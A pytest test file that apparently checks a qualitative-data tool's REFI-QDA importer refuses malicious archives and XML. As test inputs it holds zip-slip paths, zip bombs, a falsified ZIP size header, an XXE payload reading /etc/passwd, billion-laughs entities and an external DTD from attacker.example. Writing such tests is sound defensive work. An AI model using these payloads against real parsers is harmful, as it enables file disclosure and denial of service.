"""Crafted malicious .qdpx/.qdc files: each is refused with a message saying why, before anything is read."""

from __future__ import annotations

import zipfile

import pytest
from refiqda_support import make_qdpx, qde

from qualcode.core.errors import ImportFormatError
from qualcode.io.refiqda import open_qdpx
from qualcode.io.refiqda.archive import Limits
from qualcode.io.refiqda.qdc import read_qdc

GOOD = qde("")


@pytest.mark.parametrize("entry,why", [
    ("../../outside.txt", "climbs out of the archive"),
    ("sources/../../etc/cron.d/x", "climbs out of the archive"),
    ("..\\..\\windows\\x.txt", "climbs out of the archive"),
    ("/etc/passwd", "absolute path"),
    ("C:/Windows/system32/x.dll", "absolute path"),
    ("\\\\server\\share\\x", "absolute path"),
])
def test_unsafe_entry_names_refuse_the_archive(tmp_path, entry, why):
    path = make_qdpx(tmp_path / "evil.qdpx", GOOD, {entry: b"x"})
    with pytest.raises(ImportFormatError, match=why) as info:
        open_qdpx(path)
    assert "refused" in str(info.value) and str(path) in str(info.value)


def test_zip_bomb_by_ratio(tmp_path):
    path = make_qdpx(tmp_path / "bomb.qdpx", GOOD, {"sources/a.txt": b"\0" * (8 << 20)})
    with pytest.raises(ImportFormatError, match="compresses .*:1.*zip bomb"):
        open_qdpx(path)


def test_zip_bomb_by_total_size(tmp_path):
    # many entries that compress modestly but add up past the cap
    files = {f"sources/{i}.txt": bytes(range(256)) * 40 for i in range(5)}
    path = make_qdpx(tmp_path / "big.qdpx", GOOD, files)
    with pytest.raises(ImportFormatError, match="more than 40000 bytes"):
        open_qdpx(path, limits=Limits(total_bytes=40_000))
    open_qdpx(path)  # the same archive is fine under the real limits


def test_entry_that_inflates_past_its_declared_size(tmp_path):
    path = tmp_path / "liar.qdpx"
    make_qdpx(path, GOOD)
    data = bytearray(path.read_bytes())
    # shrink the declared uncompressed size of project.qde in the central directory (offset 24)
    central = data.rfind(b"PK\x01\x02")
    declared = int.from_bytes(data[central + 24:central + 28], "little")
    data[central + 24:central + 28] = (declared // 2).to_bytes(4, "little")
    local = data.find(b"PK\x03\x04")
    data[local + 22:local + 26] = (declared // 2).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    with pytest.raises(ImportFormatError, match="inflates past its declared size|cannot be read"):
        open_qdpx(path)


XXE = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Project xmlns="urn:QDA-XML:project:1.0" name="&xxe;"/>"""

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Project xmlns="urn:QDA-XML:project:1.0" name="&lol4;"/>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://attacker.example/evil.dtd">
<Project xmlns="urn:QDA-XML:project:1.0" name="x"/>"""


@pytest.mark.parametrize("xml", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_dtds_and_entities_are_refused_in_projects_and_codebooks(tmp_path, xml):
    with pytest.raises(ImportFormatError, match="refused: the XML declares a DTD or entities"):
        open_qdpx(make_qdpx(tmp_path / "x.qdpx", xml))
    codebook = tmp_path / "x.qdc"
    codebook.write_text(xml.replace("Project", "CodeBook"), encoding="utf-8")
    with pytest.raises(ImportFormatError, match="refused: the XML declares a DTD or entities"):
        read_qdc(codebook)


def test_not_a_zip_and_no_such_file(tmp_path):
    fake = tmp_path / "fake.qdpx"
    fake.write_text("hello", encoding="utf-8")
    with pytest.raises(ImportFormatError, match="is a zip file"):
        open_qdpx(fake)
    with pytest.raises(ImportFormatError, match="no such file"):
        open_qdpx(tmp_path / "nothing.qdpx")


def test_source_path_pointing_outside_is_only_read_as_a_text_source(tmp_path):
    # internal:// names are looked up inside the archive only: "../" there finds nothing
    body = ('<Sources><TextSource guid="00000000-0000-0000-0000-000000000001" name="x" '
            'plainTextPath="internal://../../secret.txt"/></Sources>')
    (tmp_path.parent / "secret.txt").write_text("secret", encoding="utf-8")
    project, report = open_qdpx(make_qdpx(tmp_path / "p.qdpx", qde(body)))
    assert project.sources[0].text is None and "missing" in str(report)


def test_refused_archive_leaves_no_open_handle(tmp_path):
    path = make_qdpx(tmp_path / "evil.qdpx", GOOD, {"../x": b"x"})
    with pytest.raises(ImportFormatError):
        open_qdpx(path)
    with zipfile.ZipFile(path, "a") as zf:  # still writable: nothing holds it
        zf.writestr("extra.txt", b"ok")


def test_absurdly_deep_code_tree_is_refused(tmp_path):
    depth = 5000
    codes = "".join(f'<Code guid="00000000-0000-0000-0000-{i:012d}" name="c{i}" isCodable="true">'
                    for i in range(depth)) + "</Code>" * depth
    path = make_qdpx(tmp_path / "deep.qdpx", qde(f"<CodeBook><Codes>{codes}</Codes></CodeBook>"))
    with pytest.raises(ImportFormatError, match="nested more than") as info:
        open_qdpx(path)
    assert "deep.qdpx!project.qde" in str(info.value)
